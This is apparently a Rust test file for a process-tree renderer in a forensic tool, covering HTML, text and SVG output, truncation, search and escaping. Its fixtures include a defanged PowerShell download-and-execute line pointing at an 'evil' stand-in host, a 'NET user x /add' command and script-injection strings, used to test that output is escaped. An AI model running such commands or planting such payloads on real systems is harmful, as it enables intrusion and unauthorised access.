use super::*;

fn node(depth: usize, label: &str) -> TreeNode {
    TreeNode { depth, label: label.to_owned(), ..TreeNode::default() }
}

fn tree(nodes: Vec<TreeNode>) -> Tree {
    Tree {
        title: "Processes".to_owned(),
        noun: ("process", "processes"),
        heaviest: "the rarest",
        nodes,
        ..Tree::default()
    }
}

#[test]
fn what_is_below_is_inside_and_closed_unless_it_is_hot() {
    let mut nodes: Vec<TreeNode> = (0..60).map(|it| node(0, &format!("filler {it}"))).collect();
    nodes.extend([node(0, "cold"), node(1, "quiet"), node(0, "hot"), node(1, "between")]);
    nodes.push(TreeNode { heat: 4, mark: Some("rarity 1".to_owned()), ..node(2, "rare") });
    let html = tree(nodes).to_html().into_string();
    let details = |label: &str, open| {
        format!("<details class=\"nblt-node nblt-heat-0\"{open}><summary class=\"nblt-row\"><b>{label}</b>")
    };
    assert!(html.contains(&details("cold", "")));
    assert!(html.contains(&details("hot", " open=\"\"")) && html.contains(&details("between", " open=\"\"")));
    // Colour is never all that says it.
    let rare = "<div class=\"nblt-node nblt-heat-4\"><div class=\"nblt-row\"><b>rare</b> <span class=\"nblt-badge nblt-notice\">rarity 1</span>";
    assert!(html.contains(rare));
    assert_eq!(html.matches("<details").count(), html.matches("</details>").count());
}

#[test]
fn the_outline_says_the_same() {
    let child = TreeNode {
        facts: vec!["pid 7".to_owned()],
        mark: Some("rarity 0.5".to_owned()),
        text: "cmd /c\nwhoami".to_owned(),
        ..node(1, "whoami.exe")
    };
    let tree = tree(vec![node(0, "cmd.exe"), child, node(0, "x.exe")]);
    assert_eq!(
        tree.to_text(),
        "Processes\n3 processes\n  cmd.exe\n    whoami.exe  (pid 7, rarity 0.5)  cmd /c⏎whoami\n  x.exe"
    );
}

#[test]
fn of_many_the_heaviest_are_drawn_and_the_rest_is_counted() {
    let mut nodes = Vec::new();
    for number in 0..100 {
        nodes.push(node(0, &format!("root {number}")));
        nodes.extend((0..99).map(|it| node(1 + it % 3, "common")));
    }
    // The last of all is the only one that matters.
    nodes.push(TreeNode { weight: 9, ..node(1, "rare") });
    let all = nodes.len();
    let tree = tree(nodes);
    let text = tree.to_text();
    assert!(text.contains("drawing 2,000 of 10,001 processes: the rarest, and what is above them"));
    let lines: Vec<&str> = text.lines().skip(2).collect();
    let drawn = lines.iter().filter(|it| !it.contains("not drawn")).count();
    let number = |text: &str| text.replace(',', "").parse::<usize>().unwrap_or(0);
    let left_out: usize = lines
        .iter()
        .filter_map(|it| it.trim().strip_prefix("… "))
        .map(|it| {
            let (next, rest) = it.split_once(" more ").unwrap_or(("0", ""));
            let below = rest.split_once("and ").map_or("0", |(_, it)| it.trim_end_matches(" below"));
            number(next) + number(below)
        })
        .sum();
    assert_eq!(drawn + left_out, all, "nothing is lost");
    assert!(lines.contains(&"    rare") && lines.contains(&"  root 99"));
    let html = tree.to_html().into_string();
    assert!(html.len() < 1_000_000, "{} bytes", html.len());
    assert_eq!(html.matches("class=\"nblt-more\"").count(), lines.len() - drawn);
}

#[test]
fn a_chain_of_a_hundred_thousand_is_drawn_flat_from_some_level_on() {
    let tree = tree((0..100_000).map(|it| node(it, "x")).collect());
    let html = tree.to_html().into_string();
    assert!(html.contains(">level 42<") && !html.contains(">level 41<"));
    let (mut deepest, mut level) = (0, 0_usize);
    for piece in html.split('<') {
        if piece.starts_with("details") {
            level += 1;
        } else if piece.starts_with("/details") {
            level -= 1;
        }
        deepest = deepest.max(level);
    }
    assert_eq!(deepest, 40);
    assert!(tree.to_text().lines().all(|it| it.len() < 200));
}

#[test]
fn a_chain_above_the_heaviest_does_not_fill_the_page() {
    let mut nodes: Vec<TreeNode> = (0..50_000).map(|it| node(it, "x")).collect();
    nodes.push(TreeNode { weight: 9, ..node(50_000, "rare at the end") });
    nodes.push(TreeNode { weight: 8, ..node(0, "rare beside") });
    let tree = tree(nodes);
    for at_most in [300, 2_000] {
        let text = Tree { at_most: Some(at_most), ..tree.clone() }.to_text();
        let drawn = text.lines().skip(2).filter(|it| !it.contains("not drawn")).count();
        assert_eq!(drawn, at_most);
        assert!(text.contains("rare at the end") && text.contains("  rare beside"));
    }
    let html = tree.to_html().into_string();
    assert!(html.len() < 1_000_000, "{} bytes", html.len());
    assert!(tree.to_svg().to_string().len() < 1_000_000);
}

#[test]
fn nothing_is_a_tree_too() {
    assert_eq!(tree(vec![]).to_text(), "Processes\n0 processes");
    assert!(tree(vec![]).to_html().as_str().contains("0 processes"));
    // A first node that is deep has nothing above it all the same.
    assert!(tree(vec![node(7, "deep"), node(usize::MAX, "deeper")]).to_text().contains("deeper"));
}

fn with_finds(depth: usize, label: &str) -> TreeNode {
    let lines = vec!["IEX (iwr hxxp://evil[.]example/a)".to_owned(), "<script>alert(1)</script>".to_owned()];
    let find = TreeFind { title: "decoded base64".to_owned(), lines, more: 0 };
    TreeNode { finds: [find].into(), ..node(depth, label) }
}

#[test]
fn what_was_found_is_folded_at_its_node_and_keeps_it_open() {
    let mut nodes: Vec<TreeNode> = (0..60).map(|it| node(0, &format!("filler {it}"))).collect();
    nodes.extend([node(0, "above"), with_finds(1, "powershell.exe"), node(2, "below")]);
    let tree = tree(nodes);
    let html = tree.to_html().into_string();
    assert!(html.contains("<details class=\"nblt-found\"><summary>decoded base64</summary>"));
    assert!(html.contains("&lt;script&gt;") && !html.contains("<script"));
    for open in ["above", "powershell.exe"] {
        assert!(html.contains(&format!("open=\"\"><summary class=\"nblt-row\"><b>{open}</b>")), "{open}");
    }
    let text = tree.to_text();
    let found =
        "    powershell.exe\n        ↳ decoded base64\n            IEX (iwr hxxp://evil[.]example/a)\n";
    assert!(text.contains(found), "{text}");
    let many = TreeFind { title: "many".to_owned(), lines: vec!["x".to_owned(); 40], more: 0 };
    assert_eq!(many.outline().last().map(String::as_str), Some("    … 28 more"));
}

#[test]
fn a_filter_keeps_what_is_above_and_counts() {
    let child = |label: &str, text: &str| TreeNode { text: text.to_owned(), ..node(1, label) };
    let tree = tree(vec![
        node(0, "explorer.exe"),
        child("cmd.exe", "cmd /c NET user x /add"),
        child("cmd.exe", "cmd /c dir"),
        node(0, "other.exe"),
        with_finds(1, "powershell.exe"),
    ]);
    let found = |words: &str| {
        let (tree, number) = tree.matching(words);
        (tree.nodes.iter().map(|it| it.label.clone()).collect::<Vec<_>>(), number)
    };
    assert_eq!(found("net USER"), (vec!["explorer.exe".to_owned(), "cmd.exe".to_owned()], 1));
    assert_eq!(found("evil[.]example").1, 1, "in what was found, too");
    assert_eq!(found("").1, 5);
    assert_eq!(found("nowhere"), (vec![], 0));
    // Something can be looked for that is not shown.
    let tree = Tree { nodes: vec![TreeNode { also: "0x8f3c".to_owned(), ..node(0, "a") }], ..tree.clone() };
    assert!(tree.matching("0X8F3C").1 == 1 && !tree.to_text().contains("0x8f3c"));
    // Of many, what is looked for is drawn.
    let mut nodes: Vec<TreeNode> =
        (0..5_000).map(|it| TreeNode { weight: 9, ..node(0, &it.to_string()) }).collect();
    nodes.push(node(0, "needle"));
    let many = Tree { at_most: Some(3), ..tree };
    let (needle, _) = Tree { nodes, ..many }.matching("needle");
    assert!(needle.to_text().contains("needle"));
}

#[test]
fn the_drawing_has_each_node_and_says_what_is_left_out() {
    let hostile = "<script>alert('x')</script>\u{202e}";
    let mut nodes =
        vec![node(0, hostile), TreeNode { heat: 4, text: hostile.to_owned(), ..with_finds(1, "b.exe") }];
    let svg = tree(nodes.clone()).to_svg().to_string();
    assert_eq!(svg.matches("<circle").count(), 2);
    assert!(svg.contains("#D25347") && svg.contains("b.exe") && svg.contains("decoded base64"));
    assert!(!svg.contains("<script") && !svg.contains('\u{202e}'));
    nodes.extend((0..10_000).map(|it| node(2 + it % 60, "x.exe")));
    let svg = tree(nodes).to_svg().to_string();
    assert_eq!(svg.matches("<circle").count(), 300);
    assert!(svg.contains("drawing 300 of 10,002 processes") && svg.contains("not drawn"));
    assert!(svg.len() < 400_000, "{}", svg.len());
    assert!(tree(vec![node(usize::MAX, "deep")]).to_svg().as_str().contains("deep"));
    assert!(tree(vec![]).to_svg().as_str().contains("0 processes"));
}
